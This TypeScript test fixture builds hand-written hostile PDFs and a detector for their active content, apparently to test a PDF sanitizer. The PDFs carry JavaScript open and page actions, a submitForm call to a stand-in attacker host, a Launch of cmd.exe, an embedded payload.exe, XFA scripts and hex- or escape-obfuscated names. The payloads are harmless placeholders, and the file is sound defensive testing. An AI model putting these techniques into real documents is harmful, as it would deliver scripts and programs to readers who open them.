import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** A stream object holding `data` (ASCII), with `entries` in its dictionary. */
const stream = (data: string, entries = '') =>
  `<< ${entries} /Length ${data.length} >>\nstream\n${data}\nendstream`;

/** What a hand-written PDF holds besides its one page of text. */
export interface HandWrittenParts {
  /** Entries added to the catalog (object 1). */
  catalog?: string;
  /** Entries added to the page (object 3). */
  page?: string;
  /** Further objects, numbered from 6 on in this order. */
  objects?: string[];
}

/**
 * A one-page US Letter PDF written by hand, saying `text` in Helvetica: catalog 1, pages 2,
 * page 3, font 4, contents 5, then `parts.objects` from 6 (classic cross-reference table).
 */
export function handWrittenPdf(text: string, parts: HandWrittenParts = {}): Uint8Array {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${parts.page ?? ''} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    stream(`BT /F1 18 Tf 72 700 Td (${text}) Tj ET`),
    ...(parts.objects ?? []),
  ];
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

const JS = (code: string) => `<< /S /JavaScript /JS (${code}) >>`;

const XFA = stream('<xdp:xdp><script>app.alert(6)</script></xdp:xdp>');
const PAYLOAD = stream('MZ-payload', '/Type /EmbeddedFile');

/**
 * Hostile PDFs, one per way a PDF can carry something active, each with the page text
 * `Visible <name>`. Object 6 onwards is where each hides its payload.
 */
export const HOSTILE_PDFS: Record<string, () => Uint8Array> = {
  'a document open action running JavaScript': () =>
    handWrittenPdf('Visible open action', {
      catalog: '/OpenAction 6 0 R',
      objects: [JS('app.alert\\(1\\)')],
    }),
  'a document-level JavaScript name tree': () =>
    handWrittenPdf('Visible name tree', {
      catalog: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
      objects: [JS('this.submitForm\\("https://attacker.example"\\)')],
    }),
  'page actions (/AA) on open and close': () =>
    handWrittenPdf('Visible page actions', {
      page: '/AA << /O 6 0 R /C 6 0 R >>',
      objects: [JS('app.alert\\(3\\)')],
    }),
  'a link annotation to a javascript: URI': () =>
    handWrittenPdf('Visible javascript link', {
      page: '/Annots [6 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /Border [0 0 0] /A << /S /URI /URI (javascript:app.alert\\(4\\)) >> >>',
      ],
    }),
  'a link that launches a program': () =>
    handWrittenPdf('Visible launch', {
      page: '/Annots [6 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
      ],
    }),
  'an embedded file, listed and attached to the page': () =>
    handWrittenPdf('Visible attachment', {
      catalog: '/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >>',
      page: '/Annots [8 0 R]',
      objects: [
        '<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 7 0 R >> >>',
        PAYLOAD,
        '<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 6 0 R >>',
      ],
    }),
  'an XFA form with a scripted field': () =>
    handWrittenPdf('Visible form', {
      catalog: '/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>',
      page: '/Annots [6 0 R]',
      objects: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520] /P 3 0 R /AA << /K ${JS('app.alert\\(5\\)')} >> >>`,
        XFA,
      ],
    }),
  // Page entries nothing draws still travel with a page that is copied rather than redrawn.
  'a script hidden in page data nothing draws': () =>
    handWrittenPdf('Visible hidden data', {
      page: '/PieceInfo << /Editor << /Private 6 0 R /LastModified (D:20260101) >> >>',
      objects: [`<< /Type /Action /Next ${JS('app.alert\\(9\\)')} /S /Launch /F (cmd.exe) >>`],
    }),
  // #xx escapes in names and a hex string: found only by a reader that decodes them.
  'escaped names and a hex-encoded javascript: URI': () =>
    handWrittenPdf('Visible escapes', {
      catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(7\\)) >>',
      page: '/Annots [6 0 R]',
      objects: [
        `<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI <${Buffer.from('javascript:app.alert(8)').toString('hex')}> >> >>`,
      ],
    }),
};

/** Every hostile part at once (the catalog and page entries of all of them, renumbered by hand). */
export const everythingHostile = (): Uint8Array =>
  handWrittenPdf('Visible everything', {
    catalog: `/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(init) 6 0 R] >> /EmbeddedFiles << /Names [(payload.exe) 8 0 R] >> >> /AcroForm << /Fields [11 0 R] /XFA 12 0 R >>`,
    page: '/AA << /O 6 0 R >> /Annots [7 0 R 10 0 R 11 0 R 13 0 R]',
    objects: [
      JS('app.alert\\(1\\)'),
      '<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (javascript:app.alert\\(2\\)) >> >>',
      '<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 9 0 R >> >>',
      PAYLOAD,
      '<< /Type /Annot /Subtype /Link /Rect [72 650 300 680] /A << /S /Launch /F (cmd.exe) >> >>',
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520] /P 3 0 R /AA << /K 6 0 R >> >>`,
      XFA,
      '<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 8 0 R >>',
    ],
  });

/** Runs qpdf on `bytes` with `args` (input and output files added); qpdf's warnings are fine. */
export function qpdf(bytes: Uint8Array, args: string[]): Uint8Array {
  const dir = mkdtempSync(join(tmpdir(), 'admit-qpdf-'));
  try {
    writeFileSync(join(dir, 'in.pdf'), bytes);
    const run = spawnSync('qpdf', [...args, join(dir, 'in.pdf'), join(dir, 'out.pdf')]);
    // 0: fine; 3: written with warnings (qpdf repairs what a hand-written file gets wrong).
    if (run.status !== 0 && run.status !== 3)
      throw new Error(`qpdf ${args.join(' ')} failed (${run.status}): ${String(run.stderr)}`);
    return new Uint8Array(readFileSync(join(dir, 'out.pdf')));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** `bytes` with its objects packed into compressed object streams (what PDF 1.5 writers do). */
export const inObjectStreams = (bytes: Uint8Array): Uint8Array =>
  qpdf(bytes, ['--object-streams=generate', '--compress-streams=y']);

/** Names and strings that make a PDF act, or carry something that can. */
const ACTIVE = [
  /\/JavaScript(?=[\s()<>[\]{}/%])/,
  /\/JS(?=[\s()<>[\]{}/%])/,
  /\/OpenAction(?=[\s()<>[\]{}/%])/,
  /\/AA(?=[\s()<>[\]{}/%])/,
  /\/Launch(?=[\s()<>[\]{}/%])/,
  /\/EmbeddedFiles?(?=[\s()<>[\]{}/%])/,
  /\/XFA(?=[\s()<>[\]{}/%])/,
  /javascript:/i,
];

/**
 * Which of /JavaScript, /JS, /OpenAction, /AA, /Launch, /EmbeddedFile(s), /XFA and `javascript:`
 * a PDF holds, read the way a reader would: qpdf unpacks object streams, decompresses every
 * stream and writes names and strings plainly (`/J#53` as `/JS`, hex strings as text) first.
 */
export function activeContent(bytes: Uint8Array): string[] {
  const plain = Buffer.from(
    qpdf(bytes, ['--qdf', '--object-streams=disable', '--decode-level=all']),
  ).toString('latin1');
  return ACTIVE.filter((pattern) => pattern.test(plain)).map((pattern) => pattern.source);
}
